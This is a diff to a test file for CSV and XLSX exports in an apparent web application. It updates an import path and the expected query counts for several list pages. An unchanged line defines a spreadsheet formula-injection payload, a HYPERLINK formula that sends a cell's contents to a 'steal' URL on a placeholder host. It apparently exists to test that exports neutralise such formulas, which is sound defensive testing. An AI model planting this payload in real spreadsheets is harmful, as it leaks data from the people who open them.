@@ -13,7 +13,7 @@ from tests.elections.factories import BriefingFactory
 from tests.factories import ActivityFactory, ParticipantCountFactory
 from tests.humanrights.factories import NoteFactory, RecommendationFactory
 from tests.training.factories import EnrolmentFactory, SessionFactory, TraineeFactory
-from untop.imports.exports import neutralise
+from untop.exports import neutralise
 
 FORMULA = '=HYPERLINK("http://example.org/steal?"&A1,"Open")'
 
@@ -107,14 +107,15 @@ def test_list_exports_run_a_fixed_number_of_queries(
         RecommendationFactory()
         BriefingFactory()
     pages = {
-        # session, user and its permissions (4), then the rows in one query, or two where
-        # the rows carry a list (the themes of a recommendation, a briefing's ministry)
-        "programs:activity_list": 5,
-        "training:trainee_list": 5,
-        "training:session_list": 5,
-        "training:course_list": 5,
-        "humanrights:tracker": 6,
-        "elections:briefing_list": 6,
+        # session, user, the second factor and the permissions (5), then the rows in one
+        # query, or two where the rows carry a list (a recommendation's themes, a briefing's
+        # ministry)
+        "programs:activity_list": 6,
+        "training:trainee_list": 6,
+        "training:session_list": 6,
+        "training:course_list": 6,
+        "humanrights:tracker": 7,
+        "elections:briefing_list": 7,
     }
     for name, queries in pages.items():
         for kind in ("csv", "xlsx"):
